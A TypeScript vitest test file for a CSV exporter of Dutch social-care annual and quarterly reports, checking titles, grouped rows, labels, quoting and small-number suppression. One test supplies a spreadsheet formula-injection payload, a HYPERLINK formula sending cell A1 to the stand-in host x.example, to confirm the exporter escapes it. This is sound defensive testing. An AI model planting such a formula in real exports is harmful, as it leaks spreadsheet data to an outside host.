import { describe, expect, it } from 'vitest';
import { renderReportCsv } from './report-csv';
import { emptyPeriodCounts, emptyQuarterCounts } from './report-rules';
import type { ReportLabels } from './report-tables';
import type { AnnualReport } from './reports.schemas';

const item = (code: string, label: string, parentCode: string | null = null) => ({ code, label, parentCode });

const labels: ReportLabels = {
  teams: [
    { code: 'west', name: 'West' },
    { code: 'hoograven-tolsteeg', name: 'Hoograven / Tolsteeg' },
  ],
  codes: {
    referrers: [item('huisarts', 'Huisarts')],
    close_reasons: [item('volgens_plan', 'Beëindigd volgens plan')],
    close_outcomes: [item('eigen_netwerk', 'Eigen netwerk')],
    first_meeting_locations: [item('thuis', 'Thuis')],
    provision_categories: [item('begeleiding', 'Begeleiding')],
    provision_products: [item('iab_groot', 'Individuele ambulante begeleiding grote aanbieders', 'begeleiding')],
    zrm_types: [item('nul', 'Nulmeting (bij de start)')],
  },
};

function report(): AnnualReport {
  const started = emptyPeriodCounts();
  started.months[0] = 2;
  started.quarters[0] = 2;
  started.year = 2;
  return {
    year: 2016,
    cases: { started, running: emptyPeriodCounts(), closed: emptyPeriodCounts() },
    teams: { west: { started, running: emptyPeriodCounts(), closed: emptyPeriodCounts(), unique_clients: { quarters: [3, 0, 0, 0], year: 3 } } },
    unique_clients: { quarters: [3, 0, 0, 0], year: 3 },
    days_to_first_meeting: { by_location: { thuis: { months: [4.5, null, null, null, null, null, null, null, null, null, null, null] } }, quarters: [4.5, null, null, null], year: 4.5 },
    started_by_referrer: { huisarts: { quarters: [2, 0, 0, 0], year: 2 }, onbekend: emptyQuarterCounts() },
    closed_by_reason: { volgens_plan: emptyQuarterCounts(), meerdere_redenen: { quarters: [0, 1, 0, 0], year: 1 }, onbekend: emptyQuarterCounts() },
    clients_by_outcome: { eigen_netwerk: { quarters: [0, 1, 0, 0], year: 1 } },
    provisions: {
      new_by_provider: { begeleiding: { 'Stichting "Zorg", Utrecht': { quarters: [1, 0, 0, 0], year: 1 } } },
      new_by_product: { begeleiding: { iab_groot: { quarters: [1, 0, 0, 0], year: 1 } } },
      extensions: { quarters: [0, 0, 2, 0], year: 2 },
      clients_with_new_provision: { year: 1 },
    },
    satisfaction: { distribution: { '1': 0, '2': 0, '3': 0, '4': 0, '5': 0, '6': 0, '7': 0, '8': 1, '9': 0, '10': 0 }, responses: 1, mean: 8, can_continue_alone_pct: null },
    zrm: { nul: emptyPeriodCounts() },
  };
}

/** The rows of the section whose title line is this (as written), up to the next empty line. */
function section(csv: string, title: string): string[] {
  const blocks = csv.trimEnd().split('\n\n').map((b) => b.split('\n'));
  const block = blocks.find((b) => b[0] === title);
  if (!block) throw new Error(`no section ${title}`);
  return block.slice(1);
}

const MONTHS = 'januari,februari,maart,april,mei,juni,juli,augustus,september,oktober,november,december';
const QUARTERS = 'Kwartaal 1,Kwartaal 2,Kwartaal 3,Kwartaal 4,Jaar';

describe('renderReportCsv', () => {
  const csv = renderReportCsv(report(), labels);

  it('opens with a title and gives every table a title row, a header row and its rows', () => {
    expect(csv.split('\n')[0]).toBe('Jaarverslag 2016');
    expect(section(csv, '"Instroom, lopende casussen en uitstroom per maand, kwartaal en jaar"')).toEqual([
      `Casussen,${MONTHS},${QUARTERS}`,
      'Gestart,2,0,0,0,0,0,0,0,0,0,0,0,2,0,0,0,2',
      'Lopend,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0',
      'Afgesloten,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0',
    ]);
    expect(csv.endsWith('\n')).toBe(true);
  });

  it('gives grouped rows their group in the first column', () => {
    expect(section(csv, 'Casussen per team')).toEqual([
      `Team,Casussen,${MONTHS},${QUARTERS}`,
      'Hoograven / Tolsteeg,Gestart,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0',
      'Hoograven / Tolsteeg,Lopend,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0',
      'Hoograven / Tolsteeg,Afgesloten,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0',
      'West,Gestart,2,0,0,0,0,0,0,0,0,0,0,0,2,0,0,0,2',
      'West,Lopend,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0',
      'West,Afgesloten,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0',
    ]);
    expect(section(csv, '"Nieuwe voorzieningen per product, per categorie"')).toEqual([
      `Categorie,Product,${QUARTERS}`,
      'Begeleiding,Individuele ambulante begeleiding grote aanbieders,1,0,0,0,1',
      'Begeleiding,Totaal,1,0,0,0,1',
      ',Eindtotaal,1,0,0,0,1',
    ]);
  });

  it('shows Dutch labels for codes, the bucket labels, and the code where no label is known', () => {
    expect(section(csv, 'Unieke cliënten per team per kwartaal')).toEqual([`Team,${QUARTERS}`, 'Hoograven / Tolsteeg,0,0,0,0,0', 'West,3,0,0,0,3', 'Totaal,3,0,0,0,3']);
    expect(section(csv, 'Aanmeldingen (gestarte casussen) per melder')).toEqual([`Melder,${QUARTERS}`, 'Huisarts,2,0,0,0,2', 'Onbekend,0,0,0,0,0', 'Totaal,2,0,0,0,2']);
    expect(section(csv, 'Afgesloten casussen per reden van afsluiten')).toEqual([
      `Afsluitreden,${QUARTERS}`,
      'Beëindigd volgens plan,0,0,0,0,0',
      '(meerdere redenen),0,1,0,0,1',
      'Onbekend,0,0,0,0,0',
      'Totaal,0,1,0,0,1',
    ]);
  });

  it('quotes cells with commas or quotes and leaves null cells empty', () => {
    expect(section(csv, '"Nieuwe voorzieningen per aanbieder, per categorie"')[1]).toBe('Begeleiding,"Stichting ""Zorg"", Utrecht",1,0,0,0,1');
    expect(section(csv, '"Gemiddeld aantal dagen van aanmelding tot kennismaking, per locatie en maand van aanmelding"')).toEqual([`Locatie,${MONTHS}`, 'Thuis,4.5,,,,,,,,,,,']);
    expect(section(csv, '"Gemiddeld aantal dagen van aanmelding tot kennismaking, per kwartaal en jaar"')).toEqual([`Locatie,${QUARTERS}`, 'Alle locaties,4.5,,,,4.5']);
    expect(section(csv, 'Tevredenheid van cliënten bij afsluiten')).toEqual([
      'Maat,Jaar',
      'Aantal gegeven rapportcijfers,1',
      'Gemiddeld rapportcijfer,8',
      'Kan zelf verder (percentage “ja” van de antwoorden),',
    ]);
  });

  it('writes a text a spreadsheet would run as a formula as text, and numbers (also negative ones) as numbers', () => {
    const hostile = report();
    hostile.provisions.new_by_provider = {
      begeleiding: { '=HYPERLINK("http://x.example/?d="&A1,"klik")': { quarters: [1, 0, 0, 0], year: 1 }, '@SUM(A1:A9)': emptyQuarterCounts(), "'s-Hertogenbosch Zorg": emptyQuarterCounts() },
    };
    hostile.days_to_first_meeting.year = -0.5;
    const again = renderReportCsv(hostile, { ...labels, teams: [{ code: 'west', name: '+31 30 123 45 67' }] });
    // Providers outside the code list come in code-point order: "'" < "=" < "@".
    expect(section(again, '"Nieuwe voorzieningen per aanbieder, per categorie"').slice(1, 4)).toEqual([
      "Begeleiding,'s-Hertogenbosch Zorg,0,0,0,0,0",
      'Begeleiding,"\'=HYPERLINK(""http://x.example/?d=""&A1,""klik"")",1,0,0,0,1',
      "Begeleiding,'@SUM(A1:A9),0,0,0,0,0",
    ]);
    expect(section(again, 'Unieke cliënten per team per kwartaal')[1]).toBe("'+31 30 123 45 67,3,0,0,0,3");
    expect(section(again, '"Gemiddeld aantal dagen van aanmelding tot kennismaking, per kwartaal en jaar"')[1]).toBe('Alle locaties,4.5,,,,-0.5');
  });

  it('names the scope of a quarterly team report in its title and leaves out the later quarters', () => {
    const quarterly = renderReportCsv({ ...report(), teams: { 'hoograven-tolsteeg': report().teams.west! } }, labels, { quarter: 2, team: 'hoograven-tolsteeg' });
    expect(quarterly.split('\n')[0]).toBe('"Kwartaalrapportage 2016 (t/m kwartaal 2, team Hoograven / Tolsteeg)"');
    expect(section(quarterly, 'Aanmeldingen (gestarte casussen) per melder')[0]).toBe('Melder,Kwartaal 1,Kwartaal 2,T/m kwartaal 2');
  });

  it('explains suppressed small numbers on the second line and shows their markers', () => {
    const published = { ...report(), suppression: { min_count: 5, min_observations: 10, cells: { '/teams/west/started/year': 'small' as const, '/cases/started/year': 'secondary' as const } } };
    const lines = renderReportCsv(published, labels).split('\n');
    expect(lines[1]).toMatch(/^"Kleine aantallen zijn afgeschermd/);
    expect(lines.find((l) => l.startsWith('West,Gestart,'))!.split(',').at(-1)).toBe('<5');
    expect(lines.find((l) => l.startsWith('Gestart,'))!.split(',').at(-1)).toBe('x');
  });
});
